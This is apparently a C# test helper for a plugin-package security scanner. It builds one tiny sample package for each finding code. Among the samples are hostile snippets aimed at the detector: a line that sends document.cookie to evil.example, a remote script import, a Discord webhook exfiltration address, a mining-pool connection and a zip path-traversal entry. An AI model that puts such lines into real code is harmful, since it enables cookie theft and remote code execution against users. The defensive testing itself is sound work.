using System.IO.Compression;
using System.Reflection.PortableExecutable;
using System.Text;
using System.Text.Json;
using Berth.Packaging.Archive;
using Berth.Packaging.Scanning;
using Berth.Packaging.Scanning.Dependencies;
using Berth.Packaging.Scanning.Indicators;
using Berth.Packaging.Scanning.Names;
using Berth.Packaging.Tests.Scanning.Il;

namespace Berth.Packaging.Tests.Scanning;

/// <summary>One package for every code of the catalogue: it has what the code is about.</summary>
internal static class FindingSamples
{
    private const string Random = "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";
    private const string Lock = """{"lockfileVersion":3,"packages":{"":{},"node_modules/lodash":{"version":"4.17.20"}}}""";

    private static readonly Dictionary<string, Func<FindingSample>> Samples = new(StringComparer.Ordinal)
    {
        ["scan.il.undeclared_capability"] = () => Method("System.Diagnostics.Process.Start(\"sh\");"),
        ["scan.il.hidden_reference"] = () => Method("return Type.GetType(\"System.Diagnostics.Process, System.Diagnostics.Process\");"),
        ["scan.il.reflection"] = () => Method("Activator.CreateInstance((Type)given);"),
        ["scan.il.private_access"] = () => Method(
            "return Version(this);", "[System.Runtime.CompilerServices.UnsafeAccessor(System.Runtime.CompilerServices.UnsafeAccessorKind.Field, Name = \"_version\")] static extern ref int Version(Some list);"),
        ["scan.il.dynamic_loading"] = () => Method("Assembly.Load(new byte[0]);"),
        ["scan.il.code_generation"] = () => Method("new System.Reflection.Emit.DynamicMethod(\"x\", typeof(int), null);"),
        ["scan.il.unsafe_deserialization"] = () => Method("return new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();"),
        ["scan.il.pinvoke"] = () => Method("getpid();", "[DllImport(\"libc\")] static extern int getpid();"),
        ["scan.il.unsafe_code"] = () => Method("Marshal.ReadInt32(IntPtr.Zero);"),
        ["scan.il.function_pointer"] = () => Method("delegate*<int> f = null; f();"),
        ["scan.il.mixed_mode"] = () => Assembly(NotOnlyIl(Compiled.From("public class A { }"))),
        ["scan.il.module_initializer"] = () => Assembly(Compiled.From("public static class M { [System.Runtime.CompilerServices.ModuleInitializer] public static void Go() { } }")),
        ["scan.il.embedded_executable"] = () => Assembly(Compiled.From("public class Outer { }", Compiled.From("public class A { }"), "Inner.dll")),
        ["scan.il.encoded_executable"] = () => Method($"return \"{Program()}\";"),
        ["scan.il.native_binary"] = () => File("assets/data.json", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, .. new byte[100]]),
        ["scan.il.ends_process"] = () => Method("Environment.Exit(1);"),
        ["scan.il.registry"] = () => Method("return Microsoft.Win32.Registry.LocalMachine.OpenSubKey(\"x\");"),
        ["scan.il.system_information"] = () => Method("return Environment.MachineName;"),
        ["scan.il.access_checks"] = () => Assembly(Compiled.From(
            """
            [assembly: System.Runtime.CompilerServices.IgnoresAccessChecksTo("Other")]
            namespace System.Runtime.CompilerServices { public sealed class IgnoresAccessChecksToAttribute(string name) : System.Attribute { public string Name => name; } }
            """)),
        ["scan.il.broken"] = () => File("lib/net10.0/Some.dll", "no assembly at all, really"),
        ["scan.il.too_large"] = () => Assembly(Compiled.From("public class A { }")) with { Limits = new ScanLimits { MaxAssemblySteps = 1 } },

        ["scan.scripts.eval"] = () => Script("eval(x)"),
        ["scan.scripts.eval_alias"] = () => Script("const e = eval; e(x)"),
        ["scan.scripts.eval_devtool"] = () => Script("""eval("1;\n//# sourceURL=webpack://notes/./src/index.js?")"""),
        ["scan.scripts.function_constructor"] = () => Script("new Function('a', b)"),
        ["scan.scripts.timer_text"] = () => Script("setTimeout('run(' + x + ')', 1)"),
        ["scan.scripts.hidden_name"] = () => Script("globalThis['ev' + 'al'](x)"),
        ["scan.scripts.computed_global"] = () => Script("window[name](1)"),
        ["scan.scripts.node_module"] = () => Script("require('fs')"),
        ["scan.scripts.computed_require"] = () => Script("require(name)"),
        ["scan.scripts.computed_import"] = () => Script("import(name)"),
        ["scan.scripts.remote_code"] = () => Script("import('https://evil.example/x.js')"),
        ["scan.scripts.loads_script"] = () => Script("document.head.append(document.createElement('script'))"),
        ["scan.scripts.document_write"] = () => Script("document.write(x)"),
        ["scan.scripts.inline_handler"] = () => Html("<img src=x onerror='run()'>"),
        ["scan.scripts.javascript_url"] = () => Html("<a href='javascript:run()'>x</a>"),
        ["scan.scripts.remote_frame"] = () => Html("<iframe src='https://evil.example'></iframe>"),
        ["scan.scripts.remote_resource"] = () => Html("<img src='https://pictures.example/a.png'>"),
        ["scan.scripts.xml_entity"] = () => File("icon.svg", "<!DOCTYPE svg [<!ENTITY x 'y'>]><svg/>"),
        ["scan.scripts.service_worker"] = () => Script("navigator.serviceWorker.register('/sw.js')"),
        ["scan.scripts.worker"] = () => Script("new Worker('./worker.js')"),
        ["scan.scripts.network"] = () => Script("fetch('/p/notes/all')"),
        ["scan.scripts.remote_request"] = () => Script("fetch('https://api.example/')"),
        ["scan.scripts.storage"] = () => Script("localStorage.getItem('x')"),
        ["scan.scripts.cookies"] = () => Script("document.cookie"),
        ["scan.scripts.clipboard"] = () => Script("navigator.clipboard.readText()"),
        ["scan.scripts.device"] = () => Script("navigator.geolocation.getCurrentPosition(f)"),
        ["scan.scripts.keyboard"] = () => Script("document.addEventListener('keydown', f)"),
        ["scan.scripts.frame_escape"] = () => Script("top.location = 'x'"),
        ["scan.scripts.prototype_change"] = () => Script("Array.prototype.map = f"),
        ["scan.scripts.network_hook"] = () => Script("window.fetch = f"),
        ["scan.scripts.stealer"] = () => Script("new Image().src = 'https://evil.example/?c=' + document.cookie"),
        ["scan.scripts.exfiltration_address"] = () => Script("fetch('https://discord.com/api/webhooks/1/x')"),
        ["scan.scripts.miner"] = () => Script("connect('stratum+tcp://pool.example:3333')"),
        ["scan.scripts.wallet"] = () => Script("ethereum.request({})"),
        ["scan.scripts.wallet_address"] = () => Script($"pay('0x{string.Concat(Enumerable.Repeat("1aB2", 10))}')"),
        ["scan.scripts.webassembly"] = () => File("dist/app.wasm", Wasm()),
        ["scan.scripts.wasm_program"] = () => File("vm/app.wasm", Wasm()),
        ["scan.scripts.wasm_asks"] = () => File("vm/app.wasm", Wasm("berth", "ask")),
        ["scan.scripts.wasm_imports"] = () => File("vm/app.wasm", Wasm("env", "system")),
        ["scan.scripts.wasm_broken"] = () => File("vm/app.wasm", "not a module"),
        ["scan.scripts.encoded_program"] = () => Script($"run('{Program()}')"),
        ["scan.scripts.packed_data"] = () => Script($"unpack('{Convert.ToBase64String(Noise(6000))}')"),
        ["scan.scripts.obfuscated"] = () => Script(string.Concat(Enumerable.Range(0, 30).Select(i => $"var _0x{i + 4096:x} = {i};"))),
        ["scan.scripts.bidi_characters"] = () => Script("var a = 1; /* \u202E } */"),
        ["scan.scripts.invisible_characters"] = () => Script("var s = 'a\u200Bb';"),
        ["scan.scripts.homoglyph_identifier"] = () => Script("var p\u0430ssword = 1;"),
        ["scan.scripts.unparseable"] = () => Script("let y = ("),
        ["scan.scripts.indicator"] = () => Script("let y = ( eval(x)"),
        ["scan.scripts.too_large"] = () => Script("f();") with { Limits = new ScanLimits { MaxScriptBytes = 2 } },
        ["scan.scripts.too_deep"] = () => Script("eval(\"eval('x')\")") with { Limits = new ScanLimits { MaxDepth = 1 } },

        // Put together here, so that no scanner of this repository takes them for real ones.
        ["scan.secrets.token"] = () => Script($"use('{"gh" + "p_" + Random}')"),
        ["scan.secrets.private_key"] = () => Script($"use(`{"-----BEGIN RSA " + "PRIVATE KEY-----"}\n{Random}{Random}\n`)"),
        ["scan.secrets.jwt"] = () => Script($"use('{"eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0In0." + Random}')"),
        ["scan.secrets.assignment"] = () => Script($"const apiKey = '{Random}'"),
        ["scan.secrets.password_in_address"] = () => Script($"open('{"postgres://ada:" + "Kx8sQ2vL"}@db.example/x')"),
        ["scan.secrets.file"] = () => File("src/.env", "A=1"),
        ["scan.secrets.too_large"] = () => File("notes.txt", new string('x', 200)) with { Limits = new ScanLimits { MaxFileBytes = 100 } },

        ["scan.dependencies.vulnerable"] = () => File("package-lock.json", Lock) with { Advisory = "GHSA-test" },
        ["scan.dependencies.malicious"] = () => File("package-lock.json", Lock) with { Advisory = "MAL-2026-1" },
        ["scan.dependencies.unreadable"] = () => File("package-lock.json", "{"),

        ["scan.names.reserved"] = () => Named("System"),
        ["scan.names.confusable"] = () => Named("Csv-Charts"),
        ["scan.names.similar"] = () => Named("CsvChart"),
        ["scan.names.imitates"] = () => Named("Other", "CSV Charts"),
        ["scan.names.mixed_scripts"] = () => Named("Other", "N\u043Etes"),
        ["scan.names.invisible"] = () => Named("Other", "A\u200Bname"),

        ["scan.archives.nested"] = () => File("assets/x.zip", Zip("x.txt")),
        ["scan.archives.encrypted"] = () => File("assets/x.zip", Encrypted(Zip("x.txt"))),
        ["scan.archives.unreadable"] = () => File("assets/x.bin", [(byte)'P', (byte)'K', 3, 4, 1, 2, 3, 4, 5, 6, 7, 8, 9]),
        ["scan.archives.unknown_format"] = () => File("assets/x.bin", [0x52, 0x61, 0x72, 0x21, 0x1A, 7, 0, 4, 0, 0, 0]),
        ["scan.archives.too_deep"] = () => File("assets/x.zip", Zip("x.txt")) with { Limits = new ScanLimits { MaxDepth = 0 } },
        ["scan.archives.too_large"] = () => File("assets/x.zip", Zip("x.txt")) with { Limits = new ScanLimits { MaxNestedBytes = 10 } },
        ["scan.archives.appended"] = () => File("assets/x.gif", [.. "GIF89a\0\0"u8, .. Zip("x.txt")]),
        ["scan.archives.traversal"] = () => File("assets/x.zip", Zip("../x.txt")),

        ["scan.indicators.match"] = () => File("a.txt", "one bad-server") with { Indicator = new Indicator(IndicatorKind.Text, "bad-server", "bad server") },
    };

    /// <summary>The codes that have a sample.</summary>
    public static IReadOnlyCollection<string> Codes => Samples.Keys;

    /// <summary>The findings of the sample of a code.</summary>
    public static async Task<IReadOnlyList<Finding>> FindingsOfAsync(string code)
    {
        var sample = Samples[code]();
        var rules = ScanRules.BuiltIn with
        {
            Limits = sample.Limits ?? ScanLimits.Default,
            Popular = [new PopularPlugin("CsvCharts", "CSV Charts")],
            ReservedNames = ["system"],
            Indicators = sample.Indicator is { } indicator ? [indicator] : [],
            FindAdvisories = (_, _) => Task.FromResult<Advisories?>(new Advisories(sample.Advisory is { } id ? [Advisory(id)] : [])),
        };
        var manifest = JsonSerializer.Serialize(new { name = sample.Slug, version = "1.0.0", displayName = sample.DisplayName ?? sample.Slug });
        var bytes = Packages.Pack([Packages.Manifest(manifest), .. sample.Files]);
        return [.. (await PackageScan.RunAsync(new MemoryStream(bytes), await Packages.AcceptAsync(bytes), rules)).Findings];
    }

    private static FindingSample File(string path, byte[] content) => new([new PackageInput(path, content)]);

    private static FindingSample File(string path, string content) => File(path, Encoding.UTF8.GetBytes(content));

    private static FindingSample Script(string code) => File("dist/index.js", code);

    private static FindingSample Html(string html) => File("public/index.html", html);

    private static FindingSample Assembly(byte[] bytes) => File("lib/net10.0/Some.dll", bytes);

    private static FindingSample Method(string statements, string members = "") => Assembly(Compiled.Method(statements, members));

    private static FindingSample Named(string slug, string? displayName = null) => new([]) { Slug = slug, DisplayName = displayName };

    private static byte[] Noise(int length)
    {
        var noise = new byte[length];
        new Random(1).NextBytes(noise);
        return noise;
    }

    private static string Program() => Convert.ToBase64String(Compiled.From("public class A { }"));

    // The flag that says so, in the header of the runtime: after its size, its version, and where the metadata lies.
    private static byte[] NotOnlyIl(byte[] assembly)
    {
        using var pe = new PEReader(new MemoryStream(assembly));
        assembly[pe.PEHeaders.CorHeaderStartOffset + 16] &= 0xFE;
        return assembly;
    }

    // One type (a function without anything), and at most one import of that type.
    private static byte[] Wasm(string? module = null, string name = "")
    {
        byte[] import = module is null ? [0] : [1, (byte)module.Length, .. Encoding.UTF8.GetBytes(module), (byte)name.Length, .. Encoding.UTF8.GetBytes(name), 0, 0];
        return [.. "\0asm\u0001\0\0\0"u8, 1, 4, 1, 0x60, 0, 0, 2, (byte)import.Length, .. import];
    }

    private static byte[] Zip(string name)
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write("some text, longer than ten bytes"u8);
        }

        return output.ToArray();
    }

    // Bit 0 of the flags, in the local header and in the directory.
    private static byte[] Encrypted(byte[] zip)
    {
        zip[6] |= 1;
        zip[zip.AsSpan().IndexOf("PK\x01\x02"u8) + 8] |= 1;
        return zip;
    }

    private static OsvAdvisory Advisory(string id) => OsvReader.Read(Encoding.UTF8.GetBytes(
        $$$"""{"id":"{{{id}}}","modified":"2026-01-01T00:00:00Z","affected":[{"package":{"ecosystem":"npm","name":"lodash"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}""")).ShouldNotBeNull();

    /// <summary>A package, and what it is scanned with.</summary>
    private sealed record FindingSample(PackageInput[] Files)
    {
        public string Slug { get; init; } = "Scanned";

        public string? DisplayName { get; init; }

        public ScanLimits? Limits { get; init; }

        public string? Advisory { get; init; }

        public Indicator? Indicator { get; init; }
    }
}
